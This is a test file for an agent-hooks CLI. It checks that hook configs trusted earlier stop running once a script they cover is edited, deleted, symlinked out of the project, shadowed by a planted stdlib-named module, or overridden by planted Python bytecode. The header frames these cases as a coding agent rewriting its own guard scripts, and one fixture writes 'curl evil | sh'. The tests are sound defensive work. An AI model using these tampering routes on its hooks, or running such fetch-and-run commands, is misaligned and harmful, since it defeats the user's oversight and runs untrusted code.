// Trust covers what a trusted command runs: the scripts of a project's hooks and a JS config's local
// imports, on the real CLI (bin/hooks.js) with real python3, sh and node processes. Each case is the
// attack of issue 21/22: after `hooks trust`, the agent (or a pull) rewrites a script the config runs.
import { spawnSync } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { cliInProcess, isolatedEnv, runCli, tmpProject } from '../helpers.js';
import { trustFile } from '../../src/trust/store.js';

/** A user with a home of their own, and a cloned repository (with `.git`) holding these files. */
function setup(files: Record<string, string>) {
  const home = tmpProject();
  const dir = tmpProject({ '.git/HEAD': 'ref: refs/heads/main\n', ...files });
  const env = isolatedEnv(home, {}, { trust: false });
  return { home, dir, env };
}

const sessionStart = (dir: string) => JSON.stringify({ session_id: 's', cwd: dir, hook_event_name: 'SessionStart', source: 'startup' });

/** What the agent is told by a SessionStart run that exited with `code`. */
function told(r: { code: number | null; stdout: string; stderr: string }) {
  expect(r.code, r.stderr).toBe(0);
  const reply = r.stdout.trim() === '' ? {} : (JSON.parse(r.stdout) as { systemMessage?: string });
  return reply.systemMessage ?? '';
}

/**
 * Runs a SessionStart through the CLI in-process (the hooks it runs are real processes); returns what the agent
 * is told. The trust decision is the CLI's logic, not its process: `runReal` keeps one real run of bin/hooks.js
 * for each way a config reaches the runner (JSON, a JS config through the launcher's import, the config cache).
 */
async function run(dir: string, env: NodeJS.ProcessEnv) {
  return told(await cliInProcess(['run', 'session-start', '--dialect', 'claude-code'], { cwd: dir, env, input: sessionStart(dir) }));
}

/** The same through a real `node bin/hooks.js` process. */
async function runReal(dir: string, env: NodeJS.ProcessEnv) {
  return told(runCli(['run', 'session-start', '--dialect', 'claude-code'], { cwd: dir, env, input: sessionStart(dir) }));
}

/** A script in each language that writes `marker` in the working directory. */
const writes = {
  python: (marker: string) => `open(${JSON.stringify(marker)}, 'w').write('x')\n`,
  sh: (marker: string) => `#!/bin/sh\necho x > ${marker}\n`,
  node: (marker: string) => `import { writeFileSync } from 'node:fs';\nwriteFileSync(${JSON.stringify(marker)}, 'x');\n`,
};

const CASES = [
  { name: 'python3 guard.py', command: 'python3 guard.py', script: 'guard.py', lang: 'python' as const },
  { name: './hook.sh', command: './hook.sh', script: 'hook.sh', lang: 'sh' as const },
  // The one case through a real CLI process: a JSON config, trusted, edited, trusted again.
  { name: 'node x.mjs', command: 'node x.mjs', script: 'x.mjs', lang: 'node' as const, real: true },
  { name: 'bash under $CLAUDE_PROJECT_DIR', command: 'bash "$CLAUDE_PROJECT_DIR"/hooks/check.sh', script: 'hooks/check.sh', lang: 'sh' as const },
  { name: 'tools/guard in exec form', command: 'tools/guard', args: ['--strict'], script: 'tools/guard', lang: 'sh' as const },
];

describe('a trusted config whose script changes is untrusted again', () => {
  it.each(CASES)('$name: edited → does not run, the agent is told which file; trusted again → runs', async ({ command, args, script, lang, real }) => {
    const runSessionStart = real === true ? runReal : run;
    const hook = args === undefined ? { command } : { command, args };
    const { dir, env } = setup({ '.hooksrc.json': JSON.stringify({ hooks: { sessionStart: [hook] } }), [script]: writes[lang]('ran') });
    // Run as programs (./hook.sh, tools/guard) they need the x bit; interpreters do not care.
    chmodSync(path.join(dir, script), 0o755);
    expect((await cliInProcess(['trust', '--yes'], { cwd: dir, env })).code).toBe(0);
    expect(await runSessionStart(dir, env)).toBe('');
    expect(existsSync(path.join(dir, 'ran'))).toBe(true);

    writeFileSync(path.join(dir, script), writes[lang]('pwned'));
    const message = await runSessionStart(dir, env);
    expect(existsSync(path.join(dir, 'pwned'))).toBe(false);
    expect(message).toContain(`${path.join(dir, '.hooksrc.json')} is no longer trusted: ${script} changed since "npx agent-hooks trust"`);

    // `hooks trust` shows what changed, and trusting again lets the new script run.
    const shown = (await cliInProcess(['trust'], { cwd: dir, env })).stdout;
    expect(shown).toMatch(new RegExp(`${script.replace('.', '\\.')} {2}sha256 [0-9a-f]{12}`));
    expect((await cliInProcess(['trust', '--yes'], { cwd: dir, env })).code).toBe(0);
    expect(await runSessionStart(dir, env)).toBe('');
    expect(existsSync(path.join(dir, 'pwned'))).toBe(true);
  });

  it('deleted, or replaced by a link out of the project: untrusted, said as such', async () => {
    const outside = tmpProject({ 'evil.py': writes.python('pwned') });
    const { dir, env } = setup({ '.hooksrc.json': JSON.stringify({ hooks: { sessionStart: [{ command: 'python3 guards/check.py' }] } }), 'guards/check.py': writes.python('ran') });
    (await cliInProcess(['trust', '--yes'], { cwd: dir, env }));
    rmSync(path.join(dir, 'guards/check.py'));
    expect(await run(dir, env)).toContain('guards/check.py was deleted since "npx agent-hooks trust"');

    symlinkSync(path.join(outside, 'evil.py'), path.join(dir, 'guards/check.py'));
    expect(await run(dir, env)).toContain(`guards/check.py now leads outside the project (${path.join(outside, 'evil.py')})`);
    expect(existsSync(path.join(dir, 'pwned'))).toBe(false);

    // The folder swapped for a link out of the project: the same.
    rmSync(path.join(dir, 'guards'), { recursive: true });
    symlinkSync(outside, path.join(dir, 'guards'));
    writeFileSync(path.join(outside, 'check.py'), writes.python('ran'));
    expect(await run(dir, env)).toContain('guards/check.py now leads outside the project');
  });

  it('a script missing when trusted that appears later is a change', async () => {
    const { dir, env } = setup({ '.hooksrc.json': JSON.stringify({ hooks: { sessionStart: [{ command: 'python3 later.py || true' }] } }) });
    const shown = (await cliInProcess(['trust', '--yes'], { cwd: dir, env })).stdout;
    expect(shown).toContain('later.py  missing (trusted as missing');
    expect(await run(dir, env)).toBe('');
    writeFileSync(path.join(dir, 'later.py'), writes.python('pwned'));
    expect(await run(dir, env)).toContain('later.py appeared since "npx agent-hooks trust"');
    expect(existsSync(path.join(dir, 'pwned'))).toBe(false);
  });

  it('files outside the project are reported by hooks trust, not hashed; absolute system paths are not listed', async () => {
    const parent = tmpProject({ 'shared.py': writes.python('ran'), 'repo/.git/HEAD': '' });
    const dir = path.join(parent, 'repo');
    writeFileSync(path.join(dir, '.hooksrc.json'), JSON.stringify({ hooks: { sessionStart: [{ command: 'python3 ../shared.py && /usr/bin/env true' }] } }));
    const env = isolatedEnv(tmpProject(), {}, { trust: false });
    const shown = (await cliInProcess(['trust', '--yes'], { cwd: dir, env })).stdout;
    expect(shown).toContain(`not covered: ../shared.py (run by hooks.sessionStart[0]) resolves outside the project (${path.join(parent, 'shared.py')}): not hashed`);
    expect(shown).not.toMatch(/^ {4}\/usr\/bin\/env/m);
    const store = JSON.parse(readFileSync(trustFile(env), 'utf8')).files[path.join(dir, '.hooksrc.json')];
    expect(store.covers).toEqual({ '../shared.py': `outside:${path.join(parent, 'shared.py')}` });
    // Not hashed: a change to it does not untrust the config (the docs say so).
    writeFileSync(path.join(parent, 'shared.py'), writes.python('ran2'));
    expect(await run(dir, env)).toBe('');
    expect(existsSync(path.join(dir, 'ran2'))).toBe(true);
  });

  it('a local override that moves a project hook to another folder is said to be outside what trust covers', async () => {
    const { dir, env } = setup({
      '.hooksrc.json': JSON.stringify({ hooks: { sessionStart: [{ id: 'g', command: 'python3 g.py' }] } }),
      '.hooksrc.local.json': JSON.stringify({ hooks: { sessionStart: [{ id: 'g', cwd: 'elsewhere' }] } }),
      'g.py': 'pass\n',
    });
    expect((await cliInProcess(['trust'], { cwd: dir, env })).stdout).toContain("not covered: hooks.sessionStart[0]: moves another layer's hook to another folder");
  });

  it('hooks trust --list says, for each covered file, whether it still matches', async () => {
    const { dir, env } = setup({ '.hooksrc.json': JSON.stringify({ hooks: { sessionStart: [{ command: 'python3 a.py; sh b.sh' }] } }), 'a.py': 'pass\n', 'b.sh': 'true\n' });
    (await cliInProcess(['trust', '--yes'], { cwd: dir, env }));
    expect((await cliInProcess(['trust', '--list'], { cwd: dir, env })).stdout).toMatch(/\.hooksrc\.json {2}trusted .*\n {2}a\.py {2}matches {2}sha256 [0-9a-f]{12}\n {2}b\.sh {2}matches/);
    writeFileSync(path.join(dir, 'b.sh'), 'curl evil | sh\n');
    expect((await cliInProcess(['trust', '--list'], { cwd: dir, env })).stdout).toMatch(/\.hooksrc\.json {2}not trusted: a file it covers changed .*\n {2}a\.py {2}matches .*\n {2}b\.sh {2}changed: not trusted/);
  });
});

describe('what a covered script itself loads', () => {
  it.each([
    ['a Python helper it imports', { 'guard.py': `from lib import word\n${writes.python('ran')}`, 'lib.py': "word = 'ok'\n" }, 'lib.py', "word = 'changed'\n", 'lib.py changed'],
    ['a module planted beside it under a standard library name', { 'guard.py': `import json\n${writes.python('ran')}` }, 'json.py', writes.python('pwned'), 'json.py appeared'],
    ['a file its shell script sources', { 'hook.sh': '. ./lib.sh\necho x > ran\n', 'lib.sh': 'A=1\n' }, 'lib.sh', 'echo x > pwned\n', 'lib.sh changed'],
  ])('%s', async (_name, files, changed, content, said) => {
    const command = 'guard.py' in files ? 'python3 guard.py' : 'sh hook.sh';
    const { dir, env } = setup({ '.hooksrc.json': JSON.stringify({ hooks: { sessionStart: [{ command }] } }), ...files });
    (await cliInProcess(['trust', '--yes'], { cwd: dir, env }));
    expect(await run(dir, env)).toBe('');
    expect(existsSync(path.join(dir, 'ran'))).toBe(true);
    writeFileSync(path.join(dir, changed), content);
    expect(await run(dir, env)).toContain(`${said} since "npx agent-hooks trust"`);
    expect(existsSync(path.join(dir, 'pwned'))).toBe(false);
  });
});

describe('a trusted JS config: its local imports are covered', () => {
  const config = "import { command } from './helpers.js';\nexport default { hooks: { sessionStart: [{ command }] } };\n";
  const helpers = (marker: string) => `import { writeFileSync } from 'node:fs';\nimport { name } from './deep/name.mjs';\nwriteFileSync(new URL('./${marker}', import.meta.url), name);\nexport const command = 'true';\n`;

  // Through a real CLI process, whose launcher imports the config its own way (see jsConfigImporter). Not in-process:
  // a module the worker imported once stays cached, so a changed deep/name.mjs would not run again even if the gate
  // let the config through, and "not imported" could not fail.
  it.each([['helpers.js', (dir: string) => writeFileSync(path.join(dir, 'helpers.js'), helpers('pwned'))], ['deep/name.mjs (imported by the helper)', (dir: string) => writeFileSync(path.join(dir, 'deep/name.mjs'), "export const name = 'changed';\nimport('node:fs').then((fs) => fs.writeFileSync(new URL('../pwned', import.meta.url), 'x'));\n")]] as const)(
    '%s changed → untrusted, and not imported',
    async (file, change) => {
      const { dir, env } = setup({ 'hooks.config.mjs': config, 'helpers.js': helpers('imported'), 'deep/name.mjs': "export const name = 'ok';\n" });
      const shown = (await cliInProcess(['trust', '--yes'], { cwd: dir, env })).stdout;
      expect(shown).toMatch(/helpers\.js {2}sha256 [0-9a-f]{12} {2}\(imported by hooks\.config\.mjs\)/);
      expect(shown).toMatch(/deep\/name\.mjs {2}sha256 [0-9a-f]{12} {2}\(imported by helpers\.js\)/);
      expect(await runReal(dir, env)).toBe('');
      expect(existsSync(path.join(dir, 'imported'))).toBe(true);

      change(dir);
      const message = await runReal(dir, env);
      expect(message).toContain(`${path.join(dir, 'hooks.config.mjs')} is no longer trusted: ${file.split(' ')[0]} changed since "npx agent-hooks trust"`);
      expect(existsSync(path.join(dir, 'pwned'))).toBe(false);
    },
  );
});

describe('a trusted JS config: the commands it spells out as literals', () => {
  it('a script named in a literal command is covered like a JSON config\'s', async () => {
    const { dir, env } = setup({
      'hooks.config.mjs': "const guard = 'python3 guards/check.py';\nexport default { hooks: { sessionStart: [{ command: guard }, { command: \"\\\"$CLAUDE_PROJECT_DIR\\\"/hook.sh\" }] } };\n",
      'guards/check.py': writes.python('ran'),
      'hook.sh': writes.sh('ran2'),
    });
    chmodSync(path.join(dir, 'hook.sh'), 0o755);
    const shown = (await cliInProcess(['trust', '--yes'], { cwd: dir, env })).stdout;
    expect(shown).toMatch(/guards\/check\.py {2}sha256 [0-9a-f]{12} {2}\(named in hooks\.config\.mjs: "python3 guards\/check\.py"\)/);
    expect(shown).toMatch(/hook\.sh {2}sha256 [0-9a-f]{12}/);
    expect(await run(dir, env)).toBe('');
    expect(existsSync(path.join(dir, 'ran'))).toBe(true);
    writeFileSync(path.join(dir, 'guards/check.py'), writes.python('pwned'));
    expect(await run(dir, env)).toContain('guards/check.py changed since');
    expect(existsSync(path.join(dir, 'pwned'))).toBe(false);
  });
});

describe('an entry recorded before covers', () => {
  it('trusts nothing until hooks trust records it again, and says so', async () => {
    const { dir, env } = setup({ '.hooksrc.json': JSON.stringify({ hooks: { sessionStart: [{ command: 'python3 guard.py' }] } }), 'guard.py': writes.python('ran') });
    (await cliInProcess(['trust', '--yes'], { cwd: dir, env }));
    // What the version before covers wrote: the config's bytes only.
    const store = JSON.parse(readFileSync(trustFile(env), 'utf8'));
    for (const entry of Object.values(store.files) as { covers?: unknown }[]) delete entry.covers;
    writeFileSync(trustFile(env), JSON.stringify(store));
    const message = await run(dir, env);
    expect(existsSync(path.join(dir, 'ran'))).toBe(false);
    expect(message).toContain(`${path.join(dir, '.hooksrc.json')} was trusted by an older agent-hooks, whose trust did not cover the scripts its commands run, so its hooks do not run; review it, then run: npx agent-hooks trust`);
    expect((await cliInProcess(['trust', '--list'], { cwd: dir, env })).stdout).toContain('trusted by an older agent-hooks');
    expect((await cliInProcess(['trust', '--yes'], { cwd: dir, env })).stdout).not.toContain('already trusted');
    expect(await run(dir, env)).toBe('');
    expect(existsSync(path.join(dir, 'ran'))).toBe(true);
  });
});

describe('the config cache never serves a config whose script changed', () => {
  // Real CLI processes: the cache is what one process leaves for the next.
  it('a run that wrote the cache, then an edited script: not run', async () => {
    const { home, dir, env } = setup({ '.hooksrc.json': JSON.stringify({ hooks: { sessionStart: [{ command: 'sh hook.sh' }] } }), 'hook.sh': writes.sh('ran') });
    (await cliInProcess(['trust', '--yes'], { cwd: dir, env }));
    expect(await runReal(dir, env)).toBe('');
    expect(await runReal(dir, env)).toBe('');
    expect(existsSync(path.join(home, '.cache/agent-hooks/config'))).toBe(true);
    // Same size, same config bytes: only the script's content differs.
    writeFileSync(path.join(dir, 'hook.sh'), writes.sh('pwnd'));
    expect(await runReal(dir, env)).toContain('hook.sh changed');
    expect(existsSync(path.join(dir, 'pwnd'))).toBe(false);
  });
});

describe('what Python loads besides a source file: bytecode, extension modules, submodules, -m', () => {
  /** Compiles `source` with the real python3 into `cfile` (an unchecked-hash .pyc is never compared with its source). */
  function compilePyc(source: string, cfile: string, mode: 'UNCHECKED_HASH' | 'TIMESTAMP') {
    const src = path.join(tmpProject({ 'evil.py': source }), 'evil.py');
    const r = spawnSync('python3', ['-c', `import py_compile, sys; py_compile.compile(sys.argv[1], cfile=sys.argv[2], doraise=True, invalidation_mode=py_compile.PycInvalidationMode.${mode})`, src, cfile], { encoding: 'utf8' });
    expect(r.status, r.stderr).toBe(0);
  }
  const cacheTag = () => spawnSync('python3', ['-c', 'import sys; print(sys.implementation.cache_tag)'], { encoding: 'utf8' }).stdout.trim();
  /** Python run by hand in the repository, as the agent can: proves the planted file is what Python loads. */
  const runByHand = (dir: string, script: string) => spawnSync('python3', [script], { cwd: dir, encoding: 'utf8' });

  it('an unchecked-hash .pyc planted in __pycache__ for an imported helper: untrusted, the run names it', async () => {
    const { dir, env } = setup({
      '.hooksrc.json': JSON.stringify({ hooks: { sessionStart: [{ command: 'python3 guards/check.py' }] } }),
      'guards/check.py': 'from policy import decide\ndecide()\n',
      'guards/policy.py': `def decide():\n    ${writes.python('ran')}`,
    });
    expect((await cliInProcess(['trust', '--yes'], { cwd: dir, env })).code).toBe(0);
    expect(await run(dir, env)).toBe('');
    expect(existsSync(path.join(dir, 'ran'))).toBe(true);

    const pyc = `guards/__pycache__/policy.${cacheTag()}.pyc`;
    mkdirSync(path.join(dir, 'guards/__pycache__'));
    compilePyc(`def decide():\n    ${writes.python('pwned')}`, path.join(dir, pyc), 'UNCHECKED_HASH');
    expect(runByHand(dir, 'guards/check.py').status).toBe(0);
    expect(existsSync(path.join(dir, 'pwned')), 'the planted bytecode is what python3 runs').toBe(true);
    rmSync(path.join(dir, 'pwned'));

    expect(await run(dir, env)).toContain(`is no longer trusted: guards/__pycache__/policy.*.pyc appeared since "npx agent-hooks trust"`);
    expect(existsSync(path.join(dir, 'pwned'))).toBe(false);
    expect((await cliInProcess(['trust', '--list'], { cwd: dir, env })).stdout).toMatch(/not trusted: a file it covers changed[^]*guards\/__pycache__\/policy\.\*\.pyc {2}appeared: not trusted/);
    // Trusted again with the cache as it is: the same bytes are fine, other bytes are a change.
    expect((await cliInProcess(['trust', '--yes'], { cwd: dir, env })).code).toBe(0);
    expect(await run(dir, env)).toBe('');
    compilePyc(`def decide():\n    ${writes.python('pwned2')}`, path.join(dir, pyc), 'UNCHECKED_HASH');
    expect(await run(dir, env)).toContain('guards/__pycache__/policy.*.pyc changed since');
    expect(existsSync(path.join(dir, 'pwned2'))).toBe(false);
  });

  it('a sourceless json.pyc beside the script shadows the standard library: untrusted', async () => {
    const { dir, env } = setup({ '.hooksrc.json': JSON.stringify({ hooks: { sessionStart: [{ command: 'python3 guard.py' }] } }), 'guard.py': `import json\n${writes.python('ran')}` });
    (await cliInProcess(['trust', '--yes'], { cwd: dir, env }));
    expect(await run(dir, env)).toBe('');
    compilePyc(writes.python('pwned'), path.join(dir, 'json.pyc'), 'TIMESTAMP');
    expect(runByHand(dir, 'guard.py').status).toBe(0);
    expect(existsSync(path.join(dir, 'pwned')), 'the sourceless json.pyc is what python3 imports').toBe(true);
    rmSync(path.join(dir, 'pwned'));
    expect(await run(dir, env)).toContain('json.pyc appeared since "npx agent-hooks trust"');
    expect(existsSync(path.join(dir, 'pwned'))).toBe(false);
  });

  it('an extension module planted under an imported name: untrusted', async () => {
    const { dir, env } = setup({ '.hooksrc.json': JSON.stringify({ hooks: { sessionStart: [{ command: 'python3 guard.py' }] } }), 'guard.py': `import lib\n${writes.python('ran')}`, 'lib.py': 'pass\n' });
    (await cliInProcess(['trust', '--yes'], { cwd: dir, env }));
    expect(await run(dir, env)).toBe('');
    writeFileSync(path.join(dir, 'lib.abi3.so'), '\x7fELF not really');
    expect(await run(dir, env)).toContain('lib*.so appeared since "npx agent-hooks trust"');
  });

  it('from a.b import c: the submodule a/b.py is covered, not only a/__init__.py', async () => {
    const { dir, env } = setup({ '.hooksrc.json': JSON.stringify({ hooks: { sessionStart: [{ command: 'python3 guard.py' }] } }), 'guard.py': `from a.b import c\n${writes.python('ran')}`, 'a/__init__.py': '', 'a/b.py': 'c = 1\n' });
    expect((await cliInProcess(['trust', '--yes'], { cwd: dir, env })).stdout).toMatch(/a\/b\.py {2}sha256 [0-9a-f]{12} {2}\(imported by guard\.py\)/);
    expect(await run(dir, env)).toBe('');
    writeFileSync(path.join(dir, 'a/b.py'), `c = 1\n${writes.python('pwned')}`);
    expect(await run(dir, env)).toContain('a/b.py changed since "npx agent-hooks trust"');
    expect(existsSync(path.join(dir, 'pwned'))).toBe(false);
  });

  it('python3 -m pkg.mod: the module and its packages are covered from the hook folder, and hooks trust says so', async () => {
    const { dir, env } = setup({ '.hooksrc.json': JSON.stringify({ hooks: { sessionStart: [{ command: 'python3 -m pkg.mod' }] } }), 'pkg/__init__.py': '', 'pkg/mod.py': writes.python('ran') });
    const shown = (await cliInProcess(['trust', '--yes'], { cwd: dir, env })).stdout;
    expect(shown).toMatch(/pkg\/mod\.py {2}sha256 [0-9a-f]{12} {2}\(run by hooks\.sessionStart\[0\]\)/);
    expect(shown).toContain("not covered: hooks.sessionStart[0]: python -m pkg.mod when found on sys.path elsewhere than in the hook's folder (.)");
    expect(await run(dir, env)).toBe('');
    expect(existsSync(path.join(dir, 'ran'))).toBe(true);
    writeFileSync(path.join(dir, 'pkg/__init__.py'), writes.python('pwned'));
    expect(await run(dir, env)).toContain('pkg/__init__.py changed since');
    expect(existsSync(path.join(dir, 'pwned'))).toBe(false);
  });

  it('a hook run writes no bytecode cache of its own, so a trusted Python guard stays trusted when the user allows caches', async () => {
    const { dir, env } = setup({ '.hooksrc.json': JSON.stringify({ hooks: { sessionStart: [{ command: 'python3 guard.py' }] } }), 'guard.py': `from lib import word\n${writes.python('ran')}`, 'lib.py': "word = 'ok'\n" });
    delete env.PYTHONDONTWRITEBYTECODE;
    (await cliInProcess(['trust', '--yes'], { cwd: dir, env }));
    expect(await run(dir, env)).toBe('');
    expect(existsSync(path.join(dir, '__pycache__'))).toBe(false);
    expect(await run(dir, env)).toBe('');
  });
});
